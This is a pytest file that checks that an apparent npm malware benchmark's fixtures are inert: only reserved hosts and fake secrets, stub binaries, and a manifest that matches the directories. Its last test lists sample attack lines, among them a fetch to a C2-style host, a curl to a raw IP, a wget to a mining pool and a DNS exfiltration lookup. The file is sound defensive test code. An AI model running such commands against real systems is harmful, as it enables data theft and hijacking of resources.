"""The labelled corpus is inert and consistent.

Malicious fixtures reproduce published attacks in code shape only: every host they name must be a
reserved name (RFC 2606 / RFC 6761: `.example`, `.invalid`, `.test`, `localhost`, `example.com|net|org`)
or a documentation IP range (RFC 5737), every credential and wallet address must be an obvious fake,
and bundled "binaries" are marked inert stubs. The MANIFEST must describe exactly the directories on
disk, so recall per family in the benchmark is computed over what is really there.
"""

from __future__ import annotations

import csv
import ipaddress
import json
import re
from collections import Counter
from pathlib import Path

import pytest

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
MALICIOUS = FIXTURES / "malicious"
BENIGN = FIXTURES / "benign"
MANIFEST = MALICIOUS / "MANIFEST.tsv"
COLUMNS = ["sample", "family", "incident", "reference", "reproduces"]

RESERVED_SUFFIXES = (".example", ".invalid", ".test", ".localhost", ".example.com", ".example.net", ".example.org")
RESERVED_NAMES = {"localhost", "example.com", "example.net", "example.org"}
DOC_NETWORKS = [ipaddress.ip_network(n) for n in
                ("127.0.0.0/8", "0.0.0.0/32", "192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24",
                 "169.254.0.0/16", "224.0.0.0/24", "239.255.255.250/32")]
# (224.0.0.0/24 is the local network control block: mDNS's 224.0.0.251 never leaves the link; 239.255.255.250 is
# SSDP's multicast group, which UPnP discovery sends to on the local network and routers do not forward.)
# (169.254.0.0/16 is link-local: the cloud metadata endpoints, 169.254.169.254 and ECS's 169.254.170.2,
# answer only inside the instance and never route to the internet; metadata theft needs their address.)
# Real top-level domains that a leaked attacker host would most likely use.
# (`.sh`, `.js`, `.to` are left out: they are file extensions and property names far more often than hosts.)
REAL_TLDS = ("com|net|org|io|ru|cn|xyz|top|info|biz|me|cc|tk|pw|su|site|online|app|dev|gg|ly|co|link|"
             "live|pro|club|cloud|ws|de|uk|us")

URL_HOST = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*://(?:[^@/\s'\"`]*@)?([^/\s'\"`:?#\\)\]}]+)")
HOST_KEY = re.compile(r"""\b(?:host|hostname|servername)['"]?\s*:\s*['"`]([^'"`$\s]+)['"`]""")
# Not followed by another label: `file.io.example` is a reserved name, not `file.io`.
BARE_DOMAIN = re.compile(rf"(?<![\w@/-])\.?((?:[a-z0-9-]+\.)+(?:{REAL_TLDS}))(?![\w-]|\.[a-z0-9])")
BENIGN_HOSTS = {"github.com", "api.github.com", "registry.npmjs.org", "npmjs.org", "sentry.io", "ingest.sentry.io",
                "o0.ingest.sentry.io"}
"""Real hosts a benign look-alike may name: the legitimate installer's release host, the registry and a
crash-reporting vendor (nothing in the fixtures is ever run; the trap is only realistic with the host the
real package uses)."""
CODE_OBJECTS = {"e", "o", "global", "globalThis", "console", "core", "window", "self", "this", "process", "module", "exports",
                "app", "strapi", "card", "l", "t", "spec", "b", "m", "log", "geo", "state", "cfg", "nuxt", "rc", "opts", "ctx", "session",
                "msg", "p", "h", "v", "config", "options", "kernel", "st", "conf"}
"""Roots of property chains in code that a TLD list would read as a domain (`core.info`, `global.app`,
Strapi's global `strapi.dirs.app`, `card.style.top`, an options object's `o.org`, minified `l.info`, `t.net`, an OpenAPI
document's `spec.info`, a badge's `b.link`, a team member's `m.site`, a logger's `log.info`, a geo-IP answer's
`geo.org`, a health check's `state.live`, a bot's `cfg.site`, a Nuxt module's `nuxt.options.dev` and runtime config's
`rc.app`, a browser launcher's `opts.app`, a client's `ctx.org`, a login session's `session.ws`, a message's `msg.cc`,
compiled props' `p.twitter.site`, a headers rule's `h.site`, a version entry's `v.link`, an Astro integration's
`config.site` and `options.site`, a Jupyter kernel's `kernel.info`, a file's `fs.stat` result `st.dev`)."""
K8S_API_GROUP = re.compile(r"/v\d")
"""What follows a Kubernetes API group (`authorization.k8s.io/v1`): an identifier in the API's paths, not a host."""
K8S_NAME = re.compile(r"(^|\.)(k8s|kubernetes|argoproj)\.io$")
"""Kubernetes' API groups (`rbac.authorization.k8s.io`, `leases.coordination.k8s.io`) and label prefixes
(`app.kubernetes.io/name`, Argo CD's `argocd.argoproj.io/sync-wave`) written bare: names in the API's objects, not
hosts (a URL to them still counts)."""
XML_NAMESPACES = ("http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink", "http://www.sitemaps.org/schemas/sitemap/0.9",
                  "http://schemas.xmlsoap.org/soap/envelope/", "http://schemas.xmlsoap.org/soap/encoding/",
                  "http://schemas.android.com/apk/res/android", "http://schemas.android.com/tools",
                  "http://apache.org/cordova/ns/plugins/1.0", "http://www.apple.com/DTDs/PropertyList-1.0.dtd",
                  "http://www.w3.org/2000/09/xmldsig#", "http://www.w3.org/2001/04/xmldsig-more#", "http://www.apple.com/metadata",
                  "http://schemas.microsoft.com/appx/appinstaller/2018", "http://schemas.microsoft.com/developer/msbuild/2003",
                  "http://schemas.microsoft.com/Search/2013/SettingContent", "http://schemas.microsoft.com/windows/2013/SettingContent",
                  "http://www.w3.org/1999/XSL/Transform", "http%3A//www.w3.org/1999/XSL/Transform")
"""XML namespace names (`xmlns="http://www.w3.org/2000/svg"`, UPnP's SOAP envelope, an Android manifest's, a Cordova
plugin.xml's, XML Signature's algorithm names, an .appinstaller file's, an MSBuild project's, a .SettingContent-ms
file's, an XSL stylesheet's, also URL-encoded inside a console's script) and the property-list DTD every plist names: identifiers that no parser
fetches."""
EDITOR_LINK = re.compile(r"(cursor|vscode|vscode-insiders|windsurf|trae|kiro|res)://", re.I)
"""Links that name an application or a file of this machine, no network host: an editor's deep link
(`cursor://anysphere.cursor-deeplink/…`), a resource inside a Windows DLL (`res://apds.dll/redirect.html`)."""
NPM_PACKAGE_NAMES = ("socket.io",)
"""npm packages whose name ends in a top-level domain, quoted as a dependency, an import or a keyword: names, not hosts."""
JVM_IMPORTS = re.compile(r"^\s*(import|package)\s+[\w.]+(\.\*)?\s*;?\s*$", re.M)
"""`import java.net.URL;`, `package com.otp`: Java and Kotlin package names, not hosts."""
NOT_A_HOST_BEFORE = re.compile(r"-i?name\s+['\"]?$")
"""`find . -name 'lcov.info'`: a file name."""
NOT_A_HOST_AFTER = re.compile(r"\s*=(?!=)")
"""`found.app = app;`: a property assigned in code."""
IPV4 = re.compile(r"(?<![\d.])(?<!Version=)(?<!Version=\")(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])")
"""A dotted quad (not a .NET assembly's or an MSIX package's four-part `Version=4.0.0.0`, `Version="2.0.7.0"`)."""
PEM_PRIVATE = re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----\s*[A-Za-z0-9+/=\s]{40,}")
REAL_SHAPED_TOKENS = re.compile(
    r"\b(?:gh[pousr]_[A-Za-z0-9]{36}|npm_[A-Za-z0-9]{36}|AKIA[0-9A-Z]{16}|xox[abpr]-[0-9A-Za-z-]{10,}|"
    r"sk-[A-Za-z0-9]{32,})\b")
ETH_ADDRESS = re.compile(r"\b0x[0-9a-fA-F]{40}\b")
BECH32_ADDRESS = re.compile(r"\bbc1[a-z0-9]{20,60}\b")
INERT_MARKER = b"NPMWARD INERT FIXTURE"
BINARY_MAGIC = (b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"\xfe\xed\xfa\xcf", b"\xca\xfe\xba\xbe")


def manifest_rows() -> list[dict[str, str]]:
    with MANIFEST.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle, delimiter="\t", quoting=csv.QUOTE_NONE)
        assert reader.fieldnames == COLUMNS, f"MANIFEST.tsv columns are {reader.fieldnames}, expected {COLUMNS}"
        return list(reader)


def sample_dirs(root: Path) -> list[Path]:
    return sorted(p for family in root.iterdir() if family.is_dir() for p in family.iterdir() if p.is_dir())


def all_fixture_files() -> list[Path]:
    return sorted(p for root in (MALICIOUS, BENIGN) for p in root.rglob("*") if p.is_file())


def text_of(path: Path) -> str | None:
    data = path.read_bytes()
    if data.startswith(BINARY_MAGIC) or b"\x00" in data[:1024]:
        return None
    return data.decode("utf-8", errors="replace")


def is_reserved_host(host: str) -> bool:
    host = host.lower().rstrip(".")
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        return host in RESERVED_NAMES or host.endswith(RESERVED_SUFFIXES)
    # (a private or reserved range's network address, `10.0.0.0` of an SSRF guard's `10.0.0.0/8`, is no host)
    return any(address in network for network in DOC_NETWORKS) or (not address.is_global and host.endswith(".0"))


def hosts_in(text: str) -> set[str]:
    for namespace in XML_NAMESPACES:
        text = text.replace(namespace, "")
    for name in NPM_PACKAGE_NAMES:
        text = text.replace(f'"{name}"', '""').replace(f"'{name}'", "''")
    text = JVM_IMPORTS.sub("", text)
    # (`cursor://anysphere.cursor-deeplink/mcp/install`, `vscode://publisher.extension/…`: an editor's deep link names
    # the application that opens it, on this machine; no network host)
    hosts = {m.group(1) for m in URL_HOST.finditer(text) if not EDITOR_LINK.match(m.group(0))}
    # (`"host": "https://github.example/..."`, node-pre-gyp's binary host, is a URL: its host counts)
    hosts |= {m.group(1) for m in HOST_KEY.finditer(text) if "://" not in m.group(1)}
    # (`console.info(...)`, `e.remote.app`, `global.app`: a property of a code object, not a domain)
    hosts |= {m.group(1) for m in BARE_DOMAIN.finditer(text)
              if not text[m.end():m.end() + 2].lstrip().startswith("(") and m.group(1).split(".")[0] not in CODE_OBJECTS
              and ".style." not in m.group(1)  # (`ccnum.style.top`: an element's CSS position)
              and not NOT_A_HOST_BEFORE.search(text, max(0, m.start() - 12), m.start()) and not NOT_A_HOST_AFTER.match(text, m.end())
              and not K8S_API_GROUP.match(text, m.end()) and not K8S_NAME.search(m.group(1))}
    # (an octet over 255 is no address: `'…/241.001.15.891//:ptth'.split('').reverse()`, a URL kept reversed, whose
    # address read the right way round is a documentation one)
    hosts |= {m.group(1) for m in IPV4.finditer(text) if all(int(octet) <= 255 for octet in m.group(1).split("."))}
    # `https://${conf.host}/...`: the host is a variable; its literal value is checked where it is assigned.
    # A host of one label (`['https://cdn', 'stats', 'example/s.gif'].join('.')`, a piece of a host
    # joined at run time) names nothing on the internet; the joined one is a reserved name.
    # A name whose last label is a number is no domain (`host: 'entry.1102938475'`, a Google Forms field id),
    # and one with an underscore no host name (`module://matplotlib_inline.backend_inline`, a Python module).
    return {h for h in hosts if "$" not in h and "{" not in h and "." in h.strip(".") and "_" not in h
            and (IPV4.fullmatch(h) or not h.rstrip(".").rsplit(".", 1)[-1].isdigit())}


def test_manifest_matches_directories():
    rows = manifest_rows()
    for row in rows:
        empty = [c for c in COLUMNS if not (row.get(c) or "").strip()]
        assert not empty, f"MANIFEST row {row.get('sample')!r} has empty columns {empty}"
        assert "://" not in row["reference"], f"{row['sample']}: references are advisory ids or titles, not URLs"
    listed = {(r["family"], r["sample"]) for r in rows}
    assert len(listed) == len(rows), "MANIFEST lists a sample twice"
    on_disk = {(p.parent.name, p.name) for p in sample_dirs(MALICIOUS)}
    assert listed - on_disk == set(), f"listed but missing on disk: {sorted(listed - on_disk)}"
    assert on_disk - listed == set(), f"on disk but not in MANIFEST: {sorted(on_disk - listed)}"


def test_corpus_size_and_family_spread():
    families = Counter(r["family"] for r in manifest_rows())
    assert sum(families.values()) >= 45
    assert len(families) >= 16
    thin = {f: n for f, n in families.items() if n < 2}
    assert not thin, f"families with fewer than 2 samples: {thin}"


@pytest.mark.parametrize("sample", sample_dirs(MALICIOUS) + sorted(p for p in BENIGN.iterdir() if p.is_dir()),
                         ids=lambda p: f"{p.parent.name}/{p.name}")
def test_every_sample_is_a_package(sample: Path):
    manifest = json.loads((sample / "package.json").read_text(encoding="utf-8"))
    assert manifest.get("name") and manifest.get("version"), f"{sample}: package.json needs name and version"
    assert any(p.name != "package.json" for p in sample.rglob("*") if p.is_file()), f"{sample}: no files besides package.json"


def test_benign_traps_exist():
    assert len([p for p in BENIGN.iterdir() if p.is_dir()]) >= 15


def test_only_reserved_hosts_and_documentation_ips():
    offending = []
    for path in all_fixture_files():
        text = text_of(path)
        if text is None:
            continue
        allowed = BENIGN_HOSTS if BENIGN in path.parents else set()
        offending += [f"{path.relative_to(FIXTURES)}: {host}" for host in sorted(hosts_in(text))
                      if not is_reserved_host(host) and host not in allowed]
    assert not offending, "non-reserved hosts in fixtures:\n" + "\n".join(offending)


PUBLIC_CONTRACTS = {"0x0000000071727de22e5e9d8baf0edac6f37da032"}
"""Protocol contracts every client names, not anyone's wallet: ERC-4337's EntryPoint v0.7 (a smart-account SDK sends
every user operation to it)."""


def test_no_real_looking_secrets_or_wallets():
    problems = []
    for path in all_fixture_files():
        text = text_of(path)
        if text is None:
            continue
        where = path.relative_to(FIXTURES)
        problems += [f"{where}: private key block" for _ in PEM_PRIVATE.finditer(text)]
        problems += [f"{where}: real-shaped token {m.group(0)[:8]}..." for m in REAL_SHAPED_TOKENS.finditer(text)]
        for m in ETH_ADDRESS.finditer(text):
            # A fake address is mostly one repeated digit (0x000...dEaD); a real one is not.
            if Counter(m.group(0)[2:].lower()).most_common(1)[0][1] < 30 and m.group(0).lower() not in PUBLIC_CONTRACTS:
                problems.append(f"{where}: Ethereum address that does not look fake: {m.group(0)}")
        problems += [f"{where}: bech32 address that does not look fake: {m.group(0)}"
                     for m in BECH32_ADDRESS.finditer(text) if "fake" not in m.group(0)]
    assert not problems, "\n".join(problems)


def test_bundled_binaries_are_inert_stubs():
    binaries = [p for p in all_fixture_files() if p.read_bytes().startswith(BINARY_MAGIC)]
    assert binaries, "the bundled-binary family must ship at least one executable-looking file"
    for path in binaries:
        data = path.read_bytes()
        assert INERT_MARKER in data and len(data) < 4096, f"{path}: executable header without the inert marker"


def test_host_scanner_catches_real_hosts():
    # The inertness check above is only as good as its extraction; prove it sees each shape.
    leaks = ['fetch("https://evil-c2.com/x")', "{ hostname: 'api.telegram.org' }", "dns.lookup(x + '.oast.live')",
             "curl http://185.62.56.25/x", "wget pool.minexmr.com:443"]
    for snippet in leaks:
        assert any(not is_reserved_host(h) for h in hosts_in(snippet)), snippet
    assert all(is_reserved_host(h) for h in hosts_in("https://discord.example/api/webhooks/1/x 192.0.2.10 a.oast.invalid"))
